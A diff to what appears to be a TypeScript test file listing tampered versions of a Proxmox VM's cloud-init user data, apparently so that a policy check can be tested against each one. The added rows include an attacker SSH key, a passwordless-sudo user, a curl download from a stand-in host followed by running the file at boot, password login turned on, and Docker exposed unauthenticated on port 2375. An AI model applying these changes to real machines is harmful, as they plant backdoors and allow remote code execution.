@@ -26,6 +26,18 @@ const upload = (inputs: Record<string, unknown>): Mutation["change"] =>
   adding(types.uploads[0], { contentType: "snippets", datastoreId: "local", nodeName: "pve-mon", ...inputs });
 const onNode = "it puts a file on the node";
 
+/** The VM's user data with one text in place of another. */
+const userData =
+  (from: string, to: string): Mutation["change"] =>
+  (stack) => {
+    const { inputs } = find(stack, types.uploads[0], "tooling-user-data");
+    const { value } = inputs?.sourceRaw as { value: { fileName: string; data: string } };
+    if (!value.data.includes(from)) throw new Error(`the user data has no ${from}: ${value.data}`);
+    const sourceRaw = { ...value, data: value.data.replace(from, () => to) };
+    setting(types.uploads[0], "tooling-user-data", { sourceRaw })(stack);
+  };
+const otherwise = "it tells a VM something else than its component does";
+
 /** Ways onto the node. */
 export const guestMutations: readonly Mutation[] = rows(
   policy,
@@ -87,5 +99,23 @@ export const guestMutations: readonly Mutation[] = rows(
     "user data that others may read",
     setting(types.uploads[0], "tooling-user-data", { fileMode: "0644" }),
     "others on the node may read it",
+  ],
+  ["another key", userData("ssh-ed25519 AAAA operator", "ssh-ed25519 BBBB somebody"), otherwise],
+  [
+    "a second key",
+    userData("- ssh-ed25519 AAAA operator", "- ssh-ed25519 AAAA operator\n      - ssh-ed25519 BBBB somebody"),
+    otherwise,
+  ],
+  ["a second user", userData("users:\n", "users:\n  - name: somebody\n    sudo: ALL\n"), otherwise],
+  ["a command", userData("runcmd:\n", "runcmd:\n  - [curl, -o, /x, 'http://198.51.100.1/x']\n"), otherwise],
+  ["an early command", userData("runcmd:\n", "bootcmd:\n  - [sh, /x]\nruncmd:\n"), otherwise],
+  ["a login with a password", userData("ssh_pwauth: false", "ssh_pwauth: true"), otherwise],
+  ["another Docker", userData('"live-restore": true', '"hosts": ["tcp://0.0.0.0:2375"]'), otherwise],
+  ["another program at the start", userData("systemctl restart ssh", "systemctl disable ssh"), otherwise],
+  ["no YAML", userData("runcmd:", "runcmd: ]"), otherwise],
+  [
+    "a file of this computer's",
+    setting(types.uploads[0], "tooling-user-data", { sourceFile: { path: "/etc/x" } }),
+    "it sets `sourceFile`",
   ],
 );
